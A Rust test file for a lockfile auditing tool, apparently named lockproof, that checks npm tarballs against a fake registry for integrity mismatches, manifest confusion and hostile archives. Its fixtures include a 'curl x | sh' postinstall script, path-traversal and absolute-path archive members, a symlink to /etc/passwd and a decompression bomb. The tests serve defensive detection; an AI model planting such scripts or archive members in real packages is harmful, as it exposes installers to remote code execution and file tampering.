//! `lockproof audit --tarballs` against the fake registry serving real
//! gzip tarballs built in the tests: verified bytes, a mismatch, each
//! manifest-confusion case and each hostile archive, each firing on its
//! case only; the tarball store serving the second run.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha512};

use crate::fake_registry::{FakeRegistry, Route};
use crate::registry::{Project, found, pairs};
use crate::tgz::{Member, bomb, package};

/// SRI sha512 of bytes.
pub fn sri_of(bytes: &[u8]) -> String {
    format!("sha512-{}", STANDARD.encode(Sha512::digest(bytes)))
}

/// One package the fake registry serves, at version 1.0.0.
pub struct Pkg {
    /// Name.
    pub name: &'static str,
    /// The tarball served.
    pub served: Vec<u8>,
    /// The bytes the lockfile and the registry pin (usually `served`).
    pub pinned: Vec<u8>,
    /// Extra fields of the registry's version document.
    pub doc: Value,
    /// `hasInstallScript` in the lockfile.
    pub scripts: bool,
}

impl Pkg {
    /// A clean package whose tarball says what its entry says.
    pub fn clean(name: &'static str) -> Self {
        Self::with(name, &json!({"name": name, "version": "1.0.0"}), &[])
    }

    /// A package whose tarball has `manifest` and `extra` members.
    pub fn with(name: &'static str, manifest: &Value, extra: &[Member<'_>]) -> Self {
        let served = package(manifest, extra);
        Self {
            name,
            pinned: served.clone(),
            served,
            doc: json!({}),
            scripts: false,
        }
    }
}

/// Routes every package on `reg` (packument and tarball).
pub fn serve(reg: &FakeRegistry, pkgs: &[Pkg]) {
    for p in pkgs {
        let tarball = format!("/{0}/-/{0}-1.0.0.tgz", p.name);
        let mut doc = json!({
            "name": p.name, "version": "1.0.0",
            "dist": {"integrity": sri_of(&p.pinned), "tarball": format!("{}{}", reg.url, &tarball[1..])},
        });
        if let (Value::Object(d), Value::Object(extra)) = (&mut doc, &p.doc) {
            d.extend(extra.clone());
        }
        let packument = json!({
            "name": p.name,
            "versions": {"1.0.0": doc},
            "time": {"1.0.0": "2026-06-01T00:00:00.000Z"},
        });
        reg.route(&format!("/{}", p.name), Route::Json(packument.to_string()));
        if !p.served.is_empty() {
            reg.route(&tarball, Route::Bytes(p.served.clone()));
        }
    }
}

/// A v3 lockfile of `pkgs` without `resolved` (the registry says where).
pub fn lockfile_of(pkgs: &[Pkg]) -> String {
    let mut packages = serde_json::Map::new();
    packages.insert("".into(), json!({"name": "app", "version": "1.0.0"}));
    for p in pkgs {
        let mut e = json!({"version": "1.0.0", "integrity": sri_of(&p.pinned)});
        if p.scripts {
            e["hasInstallScript"] = true.into();
        }
        packages.insert(format!("node_modules/{}", p.name), e);
    }
    serde_json::to_string_pretty(&json!({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": packages,
    }))
    .expect("serializable")
}

fn tarball_requests(reg: &FakeRegistry) -> usize {
    reg.seen()
        .iter()
        .filter(|s| s.path.ends_with(".tgz"))
        .count()
}

#[test]
fn each_tarball_problem_fires_on_its_case_only_and_the_store_serves_the_rerun() {
    let reg = FakeRegistry::start();
    let manifest = |name: &str| json!({"name": name, "version": "1.0.0"});
    let mut swapped = Pkg::clean("swapped");
    swapped.served = package(&json!({"name": "swapped", "version": "1.0.0", "x": 1}), &[]);
    let mut missing = Pkg::clean("missing");
    missing.served = Vec::new();
    let mut declared = Pkg::with(
        "declared",
        &json!({"name": "declared", "version": "1.0.0", "scripts": {"postinstall": "node x"}}),
        &[],
    );
    declared.scripts = true;
    let mut deps = Pkg::with(
        "deps",
        &json!({"name": "deps", "version": "1.0.0", "dependencies": {"evil": "^1.0.0", "ok": "1"}}),
        &[],
    );
    deps.doc = json!({"dependencies": {"ok": "1"}});
    let mut same_deps = Pkg::with(
        "samedeps",
        &json!({"name": "samedeps", "version": "1.0.0", "optionalDependencies": {"opt": "1"}}),
        &[],
    );
    same_deps.doc = json!({"dependencies": {"opt": "1"}, "optionalDependencies": {"opt": "1"}});
    let pkgs = vec![
        Pkg::clean("good"),
        swapped,
        missing,
        Pkg::with(
            "renamed",
            &json!({"name": "other", "version": "1.0.0"}),
            &[],
        ),
        Pkg::with(
            "rebased",
            &json!({"name": "rebased", "version": "9.9.9"}),
            &[],
        ),
        Pkg::with(
            "scripted",
            &json!({"name": "scripted", "version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}),
            &[],
        ),
        declared,
        Pkg::with(
            "gyp",
            &manifest("gyp"),
            &[Member::File("package/binding.gyp", b"{}")],
        ),
        deps,
        same_deps,
        Pkg::with(
            "traversal",
            &manifest("traversal"),
            &[Member::File("package/../../escape.js", b"x")],
        ),
        Pkg::with(
            "absolute",
            &manifest("absolute"),
            &[Member::File("/etc/cron.d/x", b"x")],
        ),
        Pkg::with(
            "linkout",
            &manifest("linkout"),
            &[Member::Symlink("package/passwd", "../../../etc/passwd")],
        ),
        Pkg::with(
            "linkin",
            &manifest("linkin"),
            &[Member::Symlink("package/alias.js", "index.js")],
        ),
        Pkg {
            served: bomb(4 << 20),
            ..Pkg::clean("bomb")
        },
    ];
    let pkgs: Vec<Pkg> = pkgs
        .into_iter()
        .map(|mut p| {
            if p.name == "bomb" {
                p.pinned = p.served.clone();
            }
            p
        })
        .collect();
    serve(&reg, &pkgs);
    let project = Project::new(&lockfile_of(&pkgs));
    let args = ["--tarballs", "--max-unpacked-bytes", "2097152"];
    let (code, report, out) = project.audit(&reg, &args);
    assert_eq!(
        found(&report),
        // `declared` shows its script (`install-script`, low); the bomb's
        // walk stops at the limit, before its missing package.json could
        // be told.
        pairs(&[
            ("install-script", "declared"),
            ("tarball-integrity-mismatch", "swapped"),
            ("manifest-mismatch", "rebased"),
            ("manifest-mismatch", "renamed"),
            ("tarball-unsafe", "absolute"),
            ("tarball-unsafe", "bomb"),
            ("tarball-unsafe", "linkout"),
            ("tarball-unsafe", "traversal"),
            ("manifest-dependencies-mismatch", "deps"),
            ("undeclared-install-script", "gyp"),
            ("undeclared-install-script", "scripted"),
            ("tarball-download-failed", "missing"),
        ]),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(code, 1);
    let t = &report["summary"]["tarballs"];
    assert_eq!(t["verified"], 13, "{t}");
    assert_eq!(t["downloaded"], 13, "{t}");
    assert_eq!(t["mismatched"], 1, "{t}");
    assert_eq!(t["failed"], 1, "{t}");
    assert!(report["checks"].to_string().contains("tarballs"));
    let first = tarball_requests(&reg);
    assert_eq!(first, 15, "one request per tarball");

    // The second run takes verified bytes from the store; only what did not
    // verify is asked for again.
    let (_, again, _) = project.audit(&reg, &args);
    assert_eq!(found(&again), found(&report));
    assert_eq!(again["summary"]["tarballs"]["downloaded"], 0);
    let seen: Vec<String> = reg.seen().into_iter().map(|s| s.path).collect();
    assert_eq!(tarball_requests(&reg) - first, 2, "{seen:?}");
}

#[test]
fn without_tarballs_nothing_is_downloaded_and_the_report_says_so() {
    let reg = FakeRegistry::start();
    let pkgs = [Pkg::clean("good")];
    serve(&reg, &pkgs);
    let project = Project::new(&lockfile_of(&pkgs));
    let (code, report, _) = project.audit(&reg, &[]);
    assert_eq!(code, 0);
    assert_eq!(tarball_requests(&reg), 0);
    assert!(report["summary"].get("tarballs").is_none());
    assert!(
        report["notes"]
            .to_string()
            .contains("no tarball was downloaded")
    );
}

#[test]
fn a_resolved_path_cannot_send_lockproof_to_another_host() {
    let reg = FakeRegistry::start();
    let evil = FakeRegistry::start();
    let pkgs = [Pkg::clean("foo")];
    serve(&reg, &pkgs);
    serve(&evil, &pkgs);
    // The public registry's host is mapped to the configured one; a first
    // path segment like `http:host` must stay a path, as npm keeps it.
    let mut lock: Value = serde_json::from_str(&lockfile_of(&pkgs)).expect("json");
    lock["packages"]["node_modules/foo"]["resolved"] = format!(
        "https://registry.npmjs.org/http:{}/foo/-/foo-1.0.0.tgz",
        evil.authority()
    )
    .into();
    let lock = lock.to_string();
    let project = Project::new(&lock);
    let (_, report, _) = project.audit(&reg, &["--tarballs"]);
    assert!(evil.seen().is_empty(), "{:?}", evil.seen());
    assert_eq!(report["summary"]["tarballs"]["verified"], 0);
    let asked: Vec<String> = reg.seen().into_iter().map(|s| s.path).collect();
    assert!(
        asked.contains(&format!("/http:{}/foo/-/foo-1.0.0.tgz", evil.authority())),
        "{asked:?}"
    );
}

#[test]
fn local_tarballs_with_an_integrity_are_verified_from_disk_every_run() {
    let reg = FakeRegistry::start();
    let project = Project::new("{}");
    let vendor = project.path().join("vendor");
    std::fs::create_dir(&vendor).expect("mkdir");
    let scripted = package(
        &json!({"name": "vendored", "version": "1.0.0", "scripts": {"preinstall": "node x"}}),
        &[],
    );
    std::fs::write(vendor.join("vendored-1.0.0.tgz"), &scripted).expect("write");
    std::fs::write(
        vendor.join("plain-1.0.0.tgz"),
        package(&json!({"name": "plain", "version": "1.0.0"}), &[]),
    )
    .expect("write");
    let entry = |name: &str, integrity: Option<String>| {
        let mut e =
            json!({"version": "1.0.0", "resolved": format!("file:vendor/{name}-1.0.0.tgz")});
        if let Some(i) = integrity {
            e["integrity"] = i.into();
        }
        e
    };
    let write_lock = |vendored_integrity: String| {
        let lock = json!({
            "name": "app", "version": "1.0.0", "lockfileVersion": 3,
            "packages": {
                "": {"name": "app", "version": "1.0.0"},
                "node_modules/vendored": entry("vendored", Some(vendored_integrity)),
                "node_modules/plain": entry("plain", None),
            }
        });
        std::fs::write(project.path().join("package-lock.json"), lock.to_string()).expect("write");
    };
    write_lock(sri_of(&scripted));
    let (_, report, _) = project.audit(&reg, &["--tarballs"]);
    assert_eq!(
        found(&report),
        pairs(&[
            ("local-file-source", "plain"),
            ("local-file-source", "vendored"),
            ("undeclared-install-script", "vendored"),
        ])
    );
    let t = &report["summary"]["tarballs"];
    assert_eq!(t["verified"], 1, "{t}");
    assert_eq!(t["skipped"]["local-file"], 1, "{t}");
    assert_eq!(
        report["lockfiles"][0]["tarballs_skipped"],
        json!([{"path": "node_modules/plain", "name": "plain", "reason": "local-file"}])
    );
    // The file changes on disk; the store still holds the old bytes under
    // the pinned hash, and must not answer for the file.
    std::fs::write(vendor.join("vendored-1.0.0.tgz"), b"other bytes").expect("write");
    let (_, again, _) = project.audit(&reg, &["--tarballs"]);
    assert!(
        found(&again).contains(&(
            "tarball-integrity-mismatch".to_string(),
            "vendored".to_string()
        )),
        "{:?}",
        found(&again)
    );
    assert!(reg.seen().iter().all(|s| !s.path.ends_with(".tgz")));
}

#[test]
fn snapshot_the_tarball_summary_in_table_markdown_and_json() {
    let reg = FakeRegistry::start();
    let mut swapped = Pkg::clean("swapped");
    swapped.served = package(&json!({"name": "swapped", "version": "1.0.0", "x": 1}), &[]);
    let pkgs = [Pkg::clean("good"), swapped];
    serve(&reg, &pkgs);
    let project = Project::new(&lockfile_of(&pkgs));
    for format in ["table", "markdown", "json"] {
        let out = crate::util::lockproof()
            .current_dir(project.path())
            .env_remove("LOCKPROOF_OFFLINE")
            .args([
                "audit",
                "--tarballs",
                "--format",
                format,
                "--registry",
                &reg.url,
            ])
            .args(["--cache-dir", "cache", "package-lock.json"])
            .output()
            .expect("run");
        assert_eq!(
            out.status.code(),
            Some(1),
            "{format}: a mismatch is critical"
        );
        // The port differs per run; Markdown escapes it as `127\.0\.0\.1\:N`.
        let escaped = reg.authority().replace('.', "\\.").replace(':', "\\:");
        let text = String::from_utf8_lossy(&out.stdout)
            .replace(&reg.authority(), "127.0.0.1:PORT")
            .replace(&escaped, "127.0.0.1:PORT");
        insta::assert_snapshot!(format!("tarball_summary_{format}"), text);
    }
}

/// A Yarn Berry lockfile of `pkgs` (registry entries, checksums of Yarn's
/// own archives, which say nothing about the npm tarball).
fn berry_lockfile_of(pkgs: &[Pkg]) -> String {
    let mut text = String::from(
        "# This file is generated by running \"yarn install\" inside your project.\n\n\
         __metadata:\n  version: 8\n  cacheKey: 10c0\n\n",
    );
    for p in pkgs {
        text.push_str(&format!(
            "\"{0}@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"{0}@npm:1.0.0\"\n  \
             checksum: 10c0/{1}\n  languageName: node\n  linkType: hard\n\n",
            p.name,
            "ab".repeat(64)
        ));
    }
    text
}

#[test]
fn yarn_berry_tarballs_are_held_to_the_registrys_integrity() {
    // The registry pins `good`'s bytes and `swapped`'s; the server hands
    // out other bytes for `swapped`. Berry's lockfile pins neither.
    let mut swapped = Pkg::clean("swapped");
    swapped.served = package(&json!({"name": "swapped", "version": "1.0.0", "x": 1}), &[]);
    let pkgs = [Pkg::clean("good"), swapped];
    let reg = FakeRegistry::start();
    serve(&reg, &pkgs);
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join("yarn.lock"), berry_lockfile_of(&pkgs)).unwrap();
    let cache = project.path().join("cache");
    let out = crate::util::lockproof()
        .env_remove("LOCKPROOF_OFFLINE")
        .args(["audit", "--tarballs", "--format", "json", "--retries", "0"])
        .args(["--registry", &reg.url, "--cache-dir"])
        .arg(&cache)
        .arg(project.path())
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(
        found(&report),
        pairs(&[("tarball-integrity-mismatch", "swapped")]),
        "{report:#}"
    );
    assert_eq!(report["summary"]["tarballs"]["verified"], 1, "{report:#}");
    assert_eq!(out.status.code(), Some(1));
}
